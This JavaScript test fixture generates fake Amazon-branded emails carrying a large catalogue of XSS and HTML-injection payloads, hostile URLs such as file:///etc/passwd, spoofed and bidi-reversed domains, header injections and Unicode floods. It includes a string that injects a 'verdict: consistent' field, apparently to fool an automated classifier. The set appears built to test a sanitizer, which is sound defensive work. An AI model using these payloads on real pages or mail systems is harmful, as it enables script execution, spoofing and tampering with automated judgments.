// attacks: messages that try to come alive in the page: script in every place
// where text can stand, events, addresses, styles, and floods of odd characters.
//
// Out: listAttacks() -> [{ name, bytes }]. What would run sets window.__hit, asks
//   for a host below .invalid, or leaves the page: all three are noticed.

const HIT = 'window.__hit=1';
const BEACON = 'https://hit.invalid/x';

const markup = {
  script: `<script>${HIT}</script>`,
  'script from a host': `<script src="${BEACON}"></script>`,
  'script, upper case, broken': `<SCRIPT/x>${HIT}</SCRIPT foo>`,
  'script closed early': `</script><script>${HIT}</script>`,
  'image error': `<img src=x onerror="${HIT}">`,
  'image from a host': `<img src="${BEACON}">`,
  'svg load': `<svg onload="${HIT}"><script>${HIT}</script></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${HIT}" /><text>x</text></a></svg>`,
  'math link': `<math><mtext><a xlink:href="javascript:${HIT}">x</a></mtext></math>`,
  iframe: `<iframe src="javascript:parent.${HIT}"></iframe><iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  'object, embed': `<object data="${BEACON}"></object><embed src="${BEACON}">`,
  'body events': `<body onload="${HIT}" onpageshow="${HIT}">`,
  'details toggle': `<details open ontoggle="${HIT}">x</details>`,
  autofocus: `<input autofocus onfocus="${HIT}"><select autofocus onfocus="${HIT}"></select>`,
  'video source': `<video><source onerror="${HIT}"></video><audio src="${BEACON}" autoplay onerror="${HIT}"></audio>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${BEACON}">`,
  base: `<base href="${BEACON}/"><a href="x">x</a>`,
  'style import': `<style>@import url("${BEACON}");body{background:url("${BEACON}")}</style>`,
  'style attribute': `<p style="background:url(${BEACON});position:fixed;inset:0;z-index:9999">x</p>`,
  'style escapes': `<p style="background:\\75 rl('${BEACON}')">x</p><style>*{b\\61ckground:u\\72l(${BEACON})}</style>`,
  'link element': `<link rel=stylesheet href="${BEACON}"><link rel=prefetch href="${BEACON}"><link rel=dns-prefetch href="//hit.invalid">`,
  form: `<form action="${BEACON}"><button id=x>x</button></form><script>x.click()</script>`,
  template: `<template><script>${HIT}</script></template>`,
  'shadow root': `<div><template shadowrootmode=open><img src=x onerror="${HIT}"></template></div>`,
  'mutation, noscript': `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  'mutation, table': `<table><caption><svg><style><img src=x onerror="${HIT}"></style></svg></caption></table>`,
  'mutation, math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
  'comment end': `<!--><img src=x onerror="${HIT}">--><!--[if mso]><img src=x onerror="${HIT}"><![endif]-->`,
  cdata: `<![CDATA[<img src=x onerror="${HIT}">]]><?xml-stylesheet href="${BEACON}"?>`,
  'plaintext, xmp': `<xmp><img src=x onerror="${HIT}"></xmp><plaintext><img src=x onerror="${HIT}">`,
  'entity quotes': `<a href="x" title="&quot;&gt;&lt;img src=x onerror=${HIT}&gt;">&lt;img src=x onerror=${HIT}&gt;</a>`,
  'id clobbering':
    '<form id=main><input id=core><input name=body><img name=getElementById><a id=honmono></a><a id=live></a></form>',
  'portal and popover': `<button popovertarget=settings popovertargetaction=show>x</button><dialog open>${'x'.repeat(50)}</dialog>`,
};

const addresses = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript:/*--></title></style></script>*/${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `vbscript:${HIT}`,
  `blob:${BEACON}`,
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://hit.invalid/',
  'filesystem:https://hit.invalid/x',
  'intent://hit.invalid#Intent;scheme=https;end',
  'x-safari-https://hit.invalid/',
  'microsoft-edge:https://hit.invalid/',
  'ms-settings:',
  'tel:+81000000',
  'sms:110?body=x',
  'mailto:a@hit.invalid?bcc=b@hit.invalid',
  `https://hit.invalid/"onmouseover="${HIT}`,
  `https://hit.invalid/'><img src=x onerror=${HIT}>`,
  'https://hit.invalid/</textarea><script>',
  'https://[::1]/',
  'https://%00.hit.invalid/',
  `https://hit.invalid/#${'a'.repeat(3000)}`,
  `https://${'a.'.repeat(300)}hit.invalid/`,
  'https://аmazon.co.jp/',
  'https://\u202eamazon.co.jp/',
  'https://hit.invalid/\u202egpj.exe',
  '//hit.invalid/x',
  '\\\\hit.invalid\\x',
  'http:hit.invalid',
  'https://a:b@hit.invalid:99999/',
  '__proto__',
  'constructor',
];

const odd = {
  'bidi flood': '\u202e\u2066\u2067\u202d'.repeat(500),
  'combining flood': `A${'\u0301\u0489'.repeat(2000)}mazon`,
  'zero-width flood': 'A\u200bm\u200ca\u200dz\u2060o\ufeffn'.repeat(300),
  'one word without end': 'a'.repeat(20000),
  'one wide word': 'あ'.repeat(20000),
  'emoji families': '👩‍👩‍👧‍👦'.repeat(1000),
  'lone surrogates in entities': '&#xd800;&#xdfff;&#0;&#x110000;',
  'line separators': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'tag characters': '\u{e0041}\u{e006d}\u{e007f}'.repeat(200),
  'private use': '\ue000\u{f0000}\u{10ffff}'.repeat(200),
  'replacement of our blanks': '{address} {domain} {police} {message_center} ${x} %POLICY% %CORE%',
  'end of our script': '</script><!--<script>-->]]>',
  'json breaks': '"}]}\\u0022,\\"verdict\\":\\"consistent\\"',
  'long rows': `<table>${'<tr><td>Amazon</td><td>x</td></tr>'.repeat(2000)}</table>`,
  'many blocks': '<p>Amazon</p>'.repeat(5000),
  'deep nesting': `${'<div>'.repeat(3000)}Amazon${'</div>'.repeat(3000)}`,
  'many links': '<a href="https://a.hit.invalid/">Amazon</a> '.repeat(3000),
};

const heads = {
  'names of the prototype': '__proto__: x\nconstructor: y\ntoString: z\nhasOwnProperty: 1\nvalueOf: 2\n',
  'markup in every line': `From: "<img src=x onerror=${HIT}>" <a@hit.invalid>\nReply-To: "</dd><script>${HIT}</script>" <b@hit.invalid>\nTo: <"<svg onload=${HIT}>"@hit.invalid>\nSubject: <script>${HIT}</script>\nDate: <img src=x onerror=${HIT}>\n`,
  'encoded markup':
    'Subject: =?UTF-8?B?PGltZyBzcmM9eCBvbmVycm9yPXdpbmRvdy5fX2hpdD0xPg==?=\nFrom: =?UTF-8?Q?=3Cscript=3Ewindow.=5F=5Fhit=3D1=3C/script=3E?= <a@hit.invalid>\n',
  'file name': `Content-Disposition: attachment; filename="<img src=x onerror=${HIT}>.html"\n`,
  'a flood of lines': Array.from({ length: 3000 }, (_, index) => `X-${index}: ${index}`).join('\n') + '\n',
  'one endless line': `Subject: Amazon ${'x'.repeat(100000)}\n`,
  'bidi subject': 'Subject: Amazon \u202e\u202d\u2066 moc.nozama\nFrom: "\u202eAmazon" <a@hit.invalid>\n',
};

const message = (body, { head = '', type = 'text/html' } = {}) =>
  Buffer.from(
    `From: "Amazon" <x@hit.invalid>\nSubject: Amazon\n${head}MIME-Version: 1.0\nContent-Type: ${type}; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n${body}`,
  );

const around = {
  plain: (code) => message(`Amazon ${code} アカウント`, { type: 'text/plain' }),
  markup: (code) => message(`<p>Amazon</p>${code}<p>アカウント</p>`),
  'in a link': (code) => message(`Amazon <a href="https://hit.invalid/">${code} 確認</a>`),
  'in an attribute': (code) =>
    message(
      `Amazon <a href="https://hit.invalid/?${code.replaceAll('"', '&quot;')}" title="${code.replaceAll('"', '&quot;')}">確認</a>`,
    ),
};

export function listAttacks() {
  const list = [];
  const add = (name, bytes) => list.push({ name, bytes });
  for (const [name, code] of Object.entries(markup)) {
    for (const [place, build] of Object.entries(around)) add(`${name}, ${place}`, build(code));
  }
  for (const address of addresses) {
    const safe = address.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    add(
      `address ${address.slice(0, 40)}`,
      message(
        `Amazon <a href="${safe}">アカウントを確認する</a> <form action="${safe}"><button formaction="${safe}">x</button></form>`,
      ),
    );
    add(`address as text ${address.slice(0, 40)}`, message(`Amazon\n${address}\n`, { type: 'text/plain' }));
  }
  for (const [name, code] of Object.entries(odd)) {
    add(`odd: ${name}`, message(`Amazon アカウント ${code}`));
    add(`odd, plain: ${name}`, message(`Amazon アカウント ${code}`, { type: 'text/plain' }));
  }
  for (const [name, head] of Object.entries(heads))
    add(`head: ${name}`, message('Amazon <a href="https://hit.invalid/">確認</a>', { head }));
  return list;
}

/** Markup that does harm as soon as a page takes it for its own. */
export const liveMarkup = `${markup['image error']}${markup['image from a host']}${markup['svg load']}`;
